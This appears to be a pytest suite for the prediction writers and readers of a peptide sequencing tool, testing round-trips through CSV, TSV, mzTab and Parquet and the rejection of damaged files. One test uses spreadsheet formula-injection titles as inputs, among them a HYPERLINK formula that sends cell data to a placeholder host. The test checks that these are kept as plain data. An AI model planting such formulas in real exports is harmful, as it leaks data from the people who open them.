"""What is written is read back, in every format; what cannot be written is refused at once."""

import csv
import dataclasses
import os
import weakref
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from denovo.chemistry import Vocabulary
from denovo.errors import InputError
from denovo.io import encodable
from denovo.io.predictions import (
    SUFFIXES,
    RunRecord,
    check_outputs,
    read_batches,
    read_predictions,
    read_settings,
    write_predictions,
)
from denovo.io.predictions.cells import one_line
from denovo.io.predictions.columns import COLUMNS, FURTHER
from denovo.spectra.prediction import Alternative, ChargeSource, Prediction, Region, Site, Status
from tests.io.predictions.drawn import build, predictions

PREDICTION = Prediction(
    file="a.mgf",
    index=3,
    native_id="index=3",
    title="s3",
    retention_time=61.5,
    precursor_mz=400.5,
    precursor_charge=2,
    charge_source=ChargeSource.FILE,
    status=Status.OK,
    peptide="[UNIMOD:1]-GAC[UNIMOD:4]K",
    residue_scores=(0.9, 0.25, 1.0, 1e-05),
    log_probability=-1.5,
    ambiguous=(Region(1, 2, ("GA", "AG")), Region(3, 4, ())),
    sites=(Site(1, "S[UNIMOD:21]", 0.931), Site(5, "T[UNIMOD:21]", 0.069)),
    alternatives=(Alternative("AGC[UNIMOD:4]K", -2.5), Alternative("NC[UNIMOD:4]K")),
)


@pytest.fixture(scope="session")
def run(common: Vocabulary) -> RunRecord:
    return RunRecord(("a.mgf", "b.mzML"), {"beam": "5"}, "0.1.0", common.alphabet)


def round_trip(path: Path, rows: list[Prediction], run: RunRecord) -> list[Prediction]:
    write_predictions([path], rows, run)
    return list(read_predictions(path))


def test_every_field_of_a_prediction_has_a_column() -> None:
    fields = [field.name for field in dataclasses.fields(Prediction)]
    columns = (*COLUMNS, *FURTHER)
    named = [column.parameter or column.name for column in columns]
    # Rivals stay within a run.
    assert sorted([*named, "rivals"]) == sorted(fields)


# mzTab has rules of its own and a test of its own.
@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".parquet"])
@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(drawn=st.lists(predictions(), max_size=4))
def test_predictions_survive_the_round_trip(
    tmp_path: Path, run: RunRecord, suffix: str, drawn: list[dict[str, Any]]
) -> None:
    rows = [build(fields) for fields in drawn]
    read = round_trip(tmp_path / f"out{suffix}", rows, run)
    if suffix != ".parquet":
        rows = [dataclasses.replace(row, title=one_line(row.title)) for row in rows]
        assert len((tmp_path / f"out{suffix}").read_text("utf-8").splitlines()) == len(rows) + 1
    assert read == rows


LATE = {"scan": 19, "activation": "ETD", "analyzer": "ion trap", "note": "as noted"}


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".mztab", ".parquet"])
def test_a_file_of_an_early_version_is_read_without_the_columns_that_came_later(
    tmp_path: Path, run: RunRecord, suffix: str
) -> None:
    path = tmp_path / f"out{suffix}"
    write_predictions([path], [dataclasses.replace(PREDICTION, **LATE)], run)
    if suffix == ".parquet":
        pq.write_table(pq.read_table(path).drop_columns(list(LATE)), path)
    else:
        sep = "," if suffix == ".csv" else "\t"
        lines = list(csv.reader(path.read_text("utf-8").splitlines(), delimiter=sep))
        (header,) = [line for line in lines if {"scan", "opt_global_scan"} & set(line)]
        kept = [n for n, name in enumerate(header) if name.removeprefix("opt_global_") not in LATE]
        rows = [[line[n] for n in kept] if len(line) == len(header) else line for line in lines]
        with path.open("w", newline="") as stream:
            csv.writer(stream, delimiter=sep, lineterminator="\n").writerows(rows)
    (read,) = read_predictions(path)
    assert (read.peptide, read.scan, read.activation, read.analyzer, read.note) == (
        *(PREDICTION.peptide, None),
        *("", "", ""),
    )


def test_the_text_of_lists_is_legible(tmp_path: Path, run: RunRecord) -> None:
    write_predictions([tmp_path / "out.csv"], [PREDICTION], run)
    with (tmp_path / "out.csv").open(newline="") as stream:
        (row,) = csv.DictReader(stream)
    assert row["residue_scores"] == "0.9,0.25,1.0,1e-05"
    assert row["ambiguity"] == "1-2:[GA|AG];3-4"
    assert row["site_probabilities"] == "1:S[UNIMOD:21] 0.9310; 5:T[UNIMOD:21] 0.0690"
    assert row["alternatives"] == "AGC[UNIMOD:4]K (-2.5); NC[UNIMOD:4]K"
    assert (row["status"], row["charge_source"], row["q_value"]) == ("ok", "file", "")


def test_parquet_keeps_lists_and_the_settings_of_the_run(tmp_path: Path, run: RunRecord) -> None:
    write_predictions([tmp_path / "out.parquet"], [PREDICTION], run)
    table = pq.read_table(tmp_path / "out.parquet")
    assert table["residue_scores"][0].as_py() == pytest.approx(PREDICTION.residue_scores)
    assert table["alternatives"][0][1].as_py() == {
        "peptide": "NC[UNIMOD:4]K",
        "log_probability": None,
    }
    assert b'"settings": {"beam": "5"}' in table.schema.metadata[b"denovo.run"]


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_file_name_that_is_no_text_can_be_written(
    tmp_path: Path, run: RunRecord, suffix: str
) -> None:
    file = os.fsdecode(b"run\xff.mgf")
    row = dataclasses.replace(PREDICTION, file=file, title="\udcff")
    (read,) = round_trip(tmp_path / f"out{suffix}", [row], dataclasses.replace(run, files=(file,)))
    assert read.title == r"\xff"
    assert encodable(Path(read.file).name) == r"run\xff.mgf"


@pytest.mark.parametrize("suffix", [".mztab", ".csv", ".tsv"])
def test_a_title_without_end_is_cut_to_what_readers_of_tables_take(
    tmp_path: Path, run: RunRecord, suffix: str
) -> None:
    row = dataclasses.replace(PREDICTION, title="x" * 200_000)
    (read,) = round_trip(tmp_path / f"out{suffix}", [row], run)
    assert read.title == "x" * 32_767


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("title", ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(A1)", "'=1"])
def test_a_title_that_a_spreadsheet_takes_for_a_formula_is_data_and_stays_as_it_is(
    tmp_path: Path, run: RunRecord, suffix: str, title: str
) -> None:
    row = dataclasses.replace(PREDICTION, title=title)
    (read,) = round_trip(tmp_path / f"out{suffix}", [row], run)
    assert read.title == title


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_a_run_without_predictions_is_a_file_without_rows(
    tmp_path: Path, run: RunRecord, suffix: str
) -> None:
    assert round_trip(tmp_path / f"out{suffix}", [], run) == []


@pytest.mark.parametrize("name", ["out.txt", "out", "out.mzid", ".csv"])
def test_an_unknown_suffix_is_refused_with_those_that_are_known(tmp_path: Path, name: str) -> None:
    with pytest.raises(InputError, match=r"expected \.mztab, \.csv, \.tsv or \.parquet"):
        check_outputs([tmp_path / name])


def test_outputs_that_cannot_be_written_are_refused_before_anything_is_computed(
    tmp_path: Path,
) -> None:
    (tmp_path / "taken").write_text("a file")
    with pytest.raises(InputError, match="choose another folder"):
        check_outputs([tmp_path / "taken" / "out.csv"])
    check_outputs([tmp_path / "new" / "out.csv", tmp_path / "new" / "out.MZTAB"])
    assert list((tmp_path / "new").iterdir()) == []


def test_of_several_outputs_all_are_written_or_none(tmp_path: Path, run: RunRecord) -> None:
    def broken() -> None:
        raise KeyboardInterrupt

    outputs = [tmp_path / "out.csv", tmp_path / "out.parquet"]
    with pytest.raises(KeyboardInterrupt):
        write_predictions(outputs, [PREDICTION], run, on_row=broken)
    assert list(tmp_path.iterdir()) == []
    rows = []
    write_predictions(outputs, [PREDICTION], run, on_row=lambda: rows.append(1))
    assert len(rows) == 2
    assert sorted(tmp_path.iterdir()) == outputs


@pytest.mark.parametrize("suffix", SUFFIXES)
@pytest.mark.parametrize("content", [b"file,index\na.mgf,1\n", b"\xff\xfe\0x", b"", b"PSM\t1\nPSM"])
def test_a_file_of_another_kind_is_an_input_error_or_has_no_rows(
    tmp_path: Path, suffix: str, content: bytes
) -> None:
    path = tmp_path / f"out{suffix}"
    path.write_bytes(content)
    if suffix == ".mztab" and content in (b"", b"file,index\na.mgf,1\n"):
        assert list(read_predictions(path)) == []
        return
    with pytest.raises(InputError, match=r"out\."):
        list(read_predictions(path))


def test_a_missing_file_is_an_input_error(tmp_path: Path) -> None:
    for suffix in SUFFIXES:
        with pytest.raises(InputError, match="does not exist"):
            list(read_predictions(tmp_path / f"out{suffix}"))


@pytest.mark.parametrize("suffix", SUFFIXES)
def test_one_batch_of_predictions_is_held_at_a_time(
    tmp_path: Path, run: RunRecord, suffix: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("columns", "parquet"):
        monkeypatch.setattr(f"denovo.io.predictions.{module}.BATCH_SIZE", 4)
    held: list[weakref.ref[Prediction]] = []

    def rows() -> Iterator[Prediction]:
        for index in range(50):
            row = dataclasses.replace(PREDICTION, index=index)
            held.append(weakref.ref(row))
            yield row
            del row
            assert sum(ref() is not None for ref in held) <= 8

    path = tmp_path / f"out{suffix}"
    write_predictions([path], rows(), run)
    assert [row.index for row in read_predictions(path)] == list(range(50))


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".mztab"])
@pytest.mark.parametrize(("n_less", "more"), [(1, []), (12, []), (0, ["one more"])])
def test_a_row_with_another_number_of_cells_is_refused(
    tmp_path: Path, run: RunRecord, suffix: str, n_less: int, more: list[str]
) -> None:
    path = tmp_path / f"out{suffix}"
    write_predictions([path], [PREDICTION, PREDICTION], run)
    separator = "," if suffix == ".csv" else "\t"
    *lines, last = csv.reader(path.read_text("utf-8").splitlines(), delimiter=separator)
    with path.open("w", newline="") as stream:
        csv.writer(stream, delimiter=separator).writerows(
            [*lines, last[: len(last) - n_less] + more]
        )
    with pytest.raises(InputError, match=r"expected \d+ cells, got \d+"):
        list(read_predictions(path))


REQUIRED = ("index", "precursor_mz", "precursor_charge", "status", "log_probability")


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".parquet"])
@pytest.mark.parametrize("name", REQUIRED)
def test_a_prediction_without_a_value_that_all_have_is_refused(
    tmp_path: Path, run: RunRecord, suffix: str, name: str
) -> None:
    path = tmp_path / f"out{suffix}"
    write_predictions([path], [PREDICTION], run)
    if suffix == ".parquet":
        table = pq.read_table(path)
        place = table.schema.get_field_index(name)
        nothing = pa.nulls(1, table.schema.field(name).type)
        pq.write_table(table.set_column(place, name, nothing), path)
    else:
        separator = "," if suffix == ".csv" else "\t"
        header, row = csv.reader(path.read_text("utf-8").splitlines(), delimiter=separator)
        row[header.index(name)] = ""
        with path.open("w", newline="") as stream:
            csv.writer(stream, delimiter=separator).writerows([header, row])
    reasons = r"that every|is missing|invalid literal for int|could not convert|not a valid Status"
    for reader in (read_predictions, read_batches):
        with pytest.raises(InputError, match=reasons):
            list(reader(path))


@pytest.mark.parametrize(
    ("suffix", "content"),
    [
        (".mztab", b"MTD\tsoftware[1]-setting[1]\n"),
        (".mztab", b"MTD\tsoftware[1]-setting[1]\tbeam\n"),
        *((".parquet", value) for value in (b"[]", b"{", b'{"settings": 5}', b"\xff")),
    ],
)
def test_damaged_settings_are_an_input_error(tmp_path: Path, suffix: str, content: bytes) -> None:
    path = tmp_path / f"out{suffix}"
    if suffix == ".parquet":
        table = pa.table({"file": ["a.mgf"]})
        pq.write_table(table.replace_schema_metadata({b"denovo.run": content}), path)
    else:
        path.write_bytes(content)
    with pytest.raises(InputError, match=r"out\."):
        read_settings(path)
